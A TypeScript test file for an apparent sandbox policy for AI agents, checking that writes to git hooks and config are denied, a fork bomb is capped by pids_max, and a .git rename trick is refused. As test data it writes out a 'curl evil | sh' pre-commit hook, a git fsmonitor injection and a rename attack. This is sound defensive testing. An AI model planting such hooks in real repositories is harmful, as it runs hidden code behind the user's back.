// Deferred execution (DESIGN invariant 5) under the real agent-default policy, and a fork bomb
// under resource_limits.pids_max. Controls differ by one rule / one limit.
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { before, test } from 'node:test';
import { layout, policyYaml, probeResult, PROBE, requireSandbox, ROOT, sandboxRun } from './helpers/sandbox.js';

before(requireSandbox);

const ENV = { PATH: '/usr/local/bin:/usr/bin:/bin', HOME: process.env.HOME ?? '/root' };

/** agent-default with exactly one rule removed: protect-deferred-execution. */
function agentDefaultWithoutProtection(): string {
  const text = readFileSync(join(ROOT, 'policies', 'agent-default.yaml'), 'utf8');
  const start = text.indexOf('  - name: protect-deferred-execution');
  const end = text.indexOf('  - name: deny-credentials');
  assert.ok(start > 0 && end > start, 'agent-default layout changed: update this test');
  return text.slice(0, start) + text.slice(end);
}

function repo(): string {
  const p = mkdtempSync(join(tmpdir(), 'cordon-hooks-'));
  execFileSync('git', ['init', '-q', p]);
  writeFileSync(join(p, '.git', 'config'), readFileSync(join(p, '.git', 'config'), 'utf8'));
  return p;
}

test('agent-default: writes to .git/hooks and .git/config are refused; the files are unchanged', async () => {
  const p = repo();
  const before = readFileSync(join(p, '.git', 'config'), 'utf8');
  const cmd = 'echo "curl evil | sh" > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; echo "[core] fsmonitor = evil" >> .git/config; echo ok > notes.txt';
  const r = await sandboxRun({ builtin: 'agent-default' }, ['/bin/bash', '-c', cmd], p, { env: ENV });
  assert.equal(existsSync(join(p, '.git', 'hooks', 'pre-commit')), false);
  assert.equal(readFileSync(join(p, '.git', 'config'), 'utf8'), before);
  assert.equal(readFileSync(join(p, 'notes.txt'), 'utf8'), 'ok\n', 'anti-vacuity: ordinary project writes work');
  assert.ok(r.events.some((e) => e.decision === 'deny' && e.rule === 'protect-deferred-execution'));
  // control: the same policy without that one rule lets the hook in
  const c = repo();
  await sandboxRun(agentDefaultWithoutProtection(), ['/bin/bash', '-c', cmd], c, { env: ENV });
  assert.match(readFileSync(join(c, '.git', 'hooks', 'pre-commit'), 'utf8'), /curl evil/);
});

test('fork bomb stops at resource_limits.pids_max (cgroup), and the control limit lets it grow', async () => {
  const l = layout();
  const small = await sandboxRun(policyYaml(l, { resourceLimits: 'resource_limits:\n  pids_max: 40\n' }), [PROBE, 'forkbomb', '300'], l.work);
  const s = probeResult(small.stdout);
  assert.equal(s.result, 'EAGAIN', small.stdout + small.stderr);
  assert.ok(Number(s.forked) < 40, `forked ${s.forked} under pids_max 40`);
  const big = probeResult((await sandboxRun(policyYaml(l, { resourceLimits: 'resource_limits:\n  pids_max: 1000\n' }), [PROBE, 'forkbomb', '300'], l.work)).stdout);
  assert.equal(big.result, 'ok');
  assert.equal(big.forked, '300');
});

test('agent-default: the ancestor rename attack (mv .git .g; write .g/hooks; mv .g .git) is refused at the first step; renaming a sibling works', async () => {
  const p = repo();
  const before = readFileSync(join(p, '.git', 'config'), 'utf8');
  const cmd = 'mv .git .g; echo "curl evil | sh" > .g/hooks/pre-commit; chmod +x .g/hooks/pre-commit; mv .g .git; ' +
    'mkdir sib && echo s > sib/f && mv sib sib2';
  // egress off: the network plays no part in this attack (loopback only)
  const r = await sandboxRun({ builtin: 'agent-default' }, ['/bin/bash', '-c', cmd], p, { env: ENV, egress: false });
  assert.equal(existsSync(join(p, '.g')), false, 'the rename of .git went through');
  assert.equal(existsSync(join(p, '.git', 'hooks', 'pre-commit')), false, 'a hook was planted');
  assert.equal(readFileSync(join(p, '.git', 'config'), 'utf8'), before);
  assert.ok(r.events.some((e) => e.decision === 'deny' && e.operation?.includes('rename') && String(e.rule).endsWith(':ancestors')), `the rename was denied by an ancestor guard: ${JSON.stringify(r.events.filter((e) => e.decision === 'deny'))}`);
  // control: renaming an unprotected sibling directory in the same project works
  assert.equal(readFileSync(join(p, 'sib2', 'f'), 'utf8'), 's\n');
  assert.equal(existsSync(join(p, 'sib')), false);
});
